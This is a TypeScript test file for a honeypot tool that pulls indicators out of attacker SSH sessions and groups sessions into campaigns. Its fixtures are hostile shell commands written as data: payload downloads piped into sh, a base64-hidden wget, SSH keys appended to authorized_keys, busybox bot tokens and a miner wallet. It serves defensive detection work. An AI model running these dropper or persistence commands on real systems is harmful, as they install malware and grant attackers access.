import type { Evidence, SessionDigest } from '@cerberusmesh/contract/campaign';
import type { EventDetail, SensorEvent } from '@cerberusmesh/contract/sensor-event';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createDigester } from './digest.ts';
import { textEvidence } from './evidence.ts';
import { joinCampaign } from './join.ts';
import { CampaignMemory } from './memory.ts';
import { bandHashes, minHash, similarity } from './min-hash.ts';

const known = new Set(
  'cd wget chmod sh tftp curl rm uname cat echo ls id ps w mkdir crontab nproc free awk grep'.split(' '),
);
const digest = createDigester((name) => known.has(name));
const blob = (seed: string) => `AAAAB3NzaC1yc2EAAAADAQABAAABAQ${seed.repeat(60)}`;

describe('evidence', () => {
  it.each<[string, string, [Evidence['kind'], string][]]>([
    ['a planted key', `echo "ssh-rsa ${blob('Cq7')} me@x" >> a`, [['key', blob('Cq7')]]],
    [
      'a link without port and query',
      'wget http://u:p@198.41.0.4:8080/a/x.sh?q=1#f',
      [
        ['url', 'http://198.41.0.4/a/x.sh'],
        ['host', '198.41.0.4'],
      ],
    ],
    ['an address without a scheme', 'tftp -g -r x 198.41.0.4', [['host', '198.41.0.4']]],
    ['a bot that asks busybox for its name', '/bin/busybox SATORI', [['token', 'SATORI']]],
    ['no applet', '/bin/busybox wget; busybox cat /proc/mounts', []],
    ['no private, reserved or everybody’s address', 'ping 10.0.0.1; nc 127.0.0.1 4; dig @8.8.8.8; ping 999.1.1.1', []],
    ['no list of targets', './x 198.41.0.1 198.41.0.2 198.41.0.3 198.41.0.4 198.41.0.5', []],
    ['where the money goes', `./m -u 4${'A1'.padEnd(94, 'x')}`, [['wallet', `4${'A1'.padEnd(94, 'x')}`]]],
  ])('finds %s', (_what, text, expected) => {
    expect(textEvidence(text).map(({ kind, value }) => [kind, value])).toEqual(expected);
  });

  it('is found behind base64 and in text that a shell would run', () => {
    const hidden = Buffer.from('wget http://198.41.0.4/x.sh').toString('base64');
    const { evidence } = digest('s', [typed(`echo ${hidden} | base64 -d | sh`)]);
    expect(evidence.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['url', 'host']));
  });

  it('costs bounded time and room whatever the text is', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 4000 }), (text) => textEvidence(text).length < 100));
    for (const piece of ['ssh-rsa AAAA', 'http://', '1.1.1.', 'busybox A ', '12345678:AA']) {
      expect(textEvidence(piece.repeat(100_000)).length).toBeLessThan(100);
    }
  });
});

describe('a digest', () => {
  it('is the same whatever changes from one visitor to the next', () => {
    const script = (host: string, name: string, token: string) =>
      [
        `cd /tmp; wget http://${host}/${name}.sh; chmod 777 ${name}.sh; sh ${name}.sh`,
        `/bin/busybox ${token}`,
        `/var/tmp/${name}`,
        `rm ${name}`,
      ].map((line) => typed(line));
    const a = digest('a', script('198.41.0.4', 'x8Hg2Kq9', 'QSDWQ'));
    const b = digest('b', script('192.33.4.12', 'zlhasi', 'WPIIW'));
    expect(a.shape?.text).toBe(b.shape?.text);
    expect(a.shape?.id).toBe(b.shape?.id);
  });

  it('of 27,742 commands is bounded, and of none has no shape', () => {
    const many = digest(
      's',
      Array.from({ length: 27_742 }, (_, n) => typed(`echo ${n} > /tmp/a${n}; wget http://198.41.${n % 200}.4/x${n}`)),
    );
    expect(many.evidence.length).toBeLessThanOrEqual(64);
    expect(many.shape?.statements.size ?? 0).toBeLessThanOrEqual(512);
    expect(digest('s', [event({ kind: 'connect' })]).shape).toBeUndefined();
  });

  it('estimates how alike two sets are, and alike ones share a band', () => {
    const items = (from: number, to: number) => Array.from({ length: to - from }, (_, at) => `item ${from + at}`);
    for (const shared of [0, 20, 50, 80, 100]) {
      const [a, b] = [minHash(items(0, 100)), minHash(items(100 - shared, 200 - shared))];
      expect(Math.abs(similarity(a, b) - shared / (200 - shared))).toBeLessThan(0.2);
      const bands = bandHashes(b);
      if (shared >= 90) expect(bandHashes(a).some((hash, band) => hash === bands[band])).toBe(true);
    }
  });
});

describe('joining', () => {
  it('keeps 10,000 visitors with one key in one campaign, each with his reason, and counts three witnesses', () => {
    const { join, memory } = world();
    const script = ['cd ~', `mkdir .ssh; echo "ssh-rsa ${blob('Cq7')}" >> .ssh/authorized_keys`, 'w'];
    for (let n = 0; n < 10_000; n++) join(visit(`10.9.${n >> 8}.${n & 255}`, script));
    const [campaign] = memory.campaigns.values();
    expect([memory.campaigns.size, campaign?.addresses]).toEqual([1, 10_000]);
    const [key] = textEvidence(script[1] ?? '');
    expect(campaign?.evidence.get(key?.id ?? '')?.witnesses.size).toBe(3);
  });

  it('does not melt what does different things, however much popular evidence all of it shows', () => {
    const { join, memory } = world();
    const popular = [
      '/bin/busybox SATORI',
      `echo "ssh-rsa ${blob('6NF')}" >> k`,
      'curl http://198.41.0.9/tools/peas.sh',
    ];
    for (let n = 0; n < 400; n++) join(visit(`10.9.0.${n % 250}`, [...scriptOf(n % 40), ...popular]));
    expect(memory.campaigns.size).toBeGreaterThanOrEqual(36);
    expect(Math.max(...[...memory.campaigns.values()].map(({ shapes }) => shapes.size))).toBeLessThanOrEqual(5);
  });

  it('melts two campaigns of several addresses only when as many show that they are one', () => {
    const { join, memory } = world();
    for (let n = 0; n < 5; n++) {
      join(visit(`10.1.0.${n}`, ['wget http://198.41.0.4/a.sh']));
      join(visit(`10.2.0.${n}`, [`echo "ssh-rsa ${blob('Cq7')}" >> k`]));
    }
    const bridge = ['wget http://198.41.0.4/a.sh', `echo "ssh-rsa ${blob('Cq7')}" >> k`];
    const [older] = memory.campaigns.keys();
    for (let n = 0; n < 50; n++) join(visit('10.3.0.1', bridge));
    join(visit('10.3.0.2', bridge));
    expect(memory.campaigns.size).toBe(2);
    expect(join(visit('10.3.0.3', bridge))?.merges).toMatchObject([{ olderId: older }]);
    expect([...memory.campaigns.keys()]).toEqual([older]);
  });

  it('does not melt two campaigns that do different things, whoever shows the evidence of both', () => {
    const { join, memory } = world();
    const [fetches, plants] = ['wget http://198.41.0.4/a.sh', `echo "ssh-rsa ${blob('Cq7')}" >> k`];
    join(visit('10.1.0.1', [...scriptOf(1), fetches]));
    join(visit('10.2.0.1', [...scriptOf(2), plants]));
    const joined = Array.from({ length: 9 }, (_, n) => join(visit(`10.3.0.${n}`, [fetches, plants])));
    expect(joined.flatMap((one) => one?.merges ?? [])).toEqual([]);
    expect(joined.some((one) => (one?.bridges.length ?? 0) > 0)).toBe(true);
    expect(memory.campaigns.size).toBe(2);
  });

  it('gives what one visitor slipped into a campaign little weight', () => {
    const { join, memory } = world();
    for (let n = 0; n < 5; n++) join(visit(`10.1.0.${n}`, ['wget http://198.41.0.4/a.sh']));
    join(visit('10.1.0.9', ['wget http://198.41.0.4/a.sh', 'wget http://198.41.0.77/innocent.sh']));
    join(visit('10.5.0.1', ['curl http://198.41.0.77/innocent.sh']));
    expect(memory.campaigns.size).toBe(2);
  });

  it('leaves alone what nothing tells from any other visit', () => {
    const { join } = world();
    expect(join(digest('a', [event({ kind: 'connect' }), event({ kind: 'client', hassh: 'h' })]))).toBeUndefined();
    expect(join(visit('10.1.0.1', ['uname -a']))).toBeUndefined();
  });

  it('takes __proto__ and its kin as any other text', () => {
    const { join, memory } = world();
    for (const text of ['__proto__', 'constructor', 'toString']) {
      join(visit(text, [`${text} a; ${text}/b > ${text}`, `busybox ${text}`, 'id', 'ls', text]));
    }
    expect(memory.campaigns.size).toBeGreaterThan(0);
  });
});

/** Ten statements that no other number's script has. */
function scriptOf(n: number): string[] {
  const word = (at: number) =>
    `${String.fromCharCode(97 + (n % 26))}${String.fromCharCode(97 + Math.floor(n / 26))}${String.fromCharCode(97 + at)}`;
  return Array.from({ length: 10 }, (_, at) => `ls ${word(at)} ${word(at + 1)}`);
}

function world() {
  const memory = new CampaignMemory();
  let born = 0;
  return {
    memory,
    join: (session: SessionDigest) =>
      joinCampaign(session, memory, { id: `c${`${born}`.padStart(6, '0')}`, at: new Date(born++) }),
  };
}

let visits = 0;
function visit(ip: string, commands: readonly string[]): SessionDigest {
  return digest(`s${visits++}`, [event({ kind: 'connect' }, ip), ...commands.map((input) => typed(input, ip))]);
}

function typed(input: string, ip?: string): SensorEvent {
  return event({ kind: 'command', phase: 'typed', input }, ip);
}

function event(detail: EventDetail, sourceIp = '10.0.0.1'): SensorEvent {
  return {
    id: '01a1f35f-f000-7000-8000-000000000000',
    eventType: detail.kind,
    timestamp: '2026-11-22T00:00:00.000000Z',
    epochMs: 0,
    sensor: 'sensor-a',
    sessionId: 's',
    protocol: 'ssh',
    sourceIp,
    sourcePort: 1,
    late: false,
    detail,
  };
}
